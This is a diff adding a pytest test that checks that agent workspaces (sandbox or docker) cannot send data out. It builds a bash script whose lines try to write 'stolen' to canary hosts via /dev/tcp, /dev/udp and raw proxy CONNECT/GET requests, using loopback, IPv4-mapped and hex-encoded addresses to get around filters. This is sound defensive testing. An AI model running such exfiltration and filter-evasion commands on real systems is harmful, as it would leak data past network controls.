@@ -218,6 +218,40 @@ def test_nothing_else_brings_a_single_byte(agent, workspace, serve, name_for, tl
     assert "names another host" in held[tls_name, "CONNECT"]["why"]
 
 
+@pytest.mark.parametrize("phase", ["setup", "agent"])
+@pytest.mark.parametrize("driver", ["sandbox", "docker"])
+def test_with_nothing_but_bash_no_byte_gets_out_either(agent, workspace, serve, name_for, driver, phase):
+    """The same in each kind of workspace, for images that have little in them."""
+    here = own_address()
+    server, canaries = serve(), [serve(address) for address in dict.fromkeys((HOST_LOOPBACK, OPEN, here))]
+    unheard = Unheard(HOST_LOOPBACK, OPEN, here)
+    good, inward, outside = name_for("good"), name_for("inward", HOST_LOOPBACK), name_for("outside")
+    hosts = [f"{good}:{server.port}", f"{inward}:{canaries[0].port}"]
+    targets = [(one.address, one.port) for one in canaries] + [(f"[::ffff:{OPEN}]", canaries[1].port)]
+    targets += [("0x7f4d0001", canaries[1].port), (inward, canaries[0].port), (outside, canaries[1].port)]
+    lines = ['ask() { exec 3<>/dev/tcp/127.0.0.1/3128; printf "$1" >&3; cat <&3; exec 3>&-; }']
+    for host, port in targets:
+        lines.append(f"ask 'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n'")
+        lines.append(f"ask 'GET http://{host}:{port}/stolen HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'")
+        lines.append(f"timeout 2 bash -c 'echo stolen > /dev/tcp/{host}/{port}' 2>&1")
+    lines += [f"echo stolen > /dev/udp/{address}/{port}" for address, port in (u.getsockname() for u in unheard.udp)]
+    lines.append(f"ask 'GET http://{good}:{server.port}/ HTTP/1.1\\r\\nHost: {good}:{server.port}\\r\\n\\r\\n'")
+    script = "{\n" + "\n".join(lines) + "\n} > said 2>&1 || true"
+    try:
+        if phase == "setup":
+            key = workspace(f"set +e\n{script}", driver=driver, setup=hosts)
+        else:
+            key = workspace(driver=driver, agent=hosts)
+            agent.run(key, script)
+        said = agent.get(f"/workspaces/{key}/files/said").body
+        assert [(one.connections, bytes(one.got)) for one in canaries] == [(0, b"")] * len(canaries)
+        assert unheard.heard() == 0
+    finally:
+        unheard.close()
+    assert (said.count(b"200 OK"), said.count(b"held this back")) == (1, 2 * len(targets))
+    assert len(rows(agent, key, "blocked", phase=phase, total=2 * len(targets))) == 2 * len(targets)
+
+
 def test_a_server_in_another_network_namespace_hears_nothing(agent, workspace, name_for, require):
     """Reached from this host by a route of its own, so that only the proxy's rules stand between it and a workspace."""
     if os.geteuid() != 0 or not shutil.which("ip"):
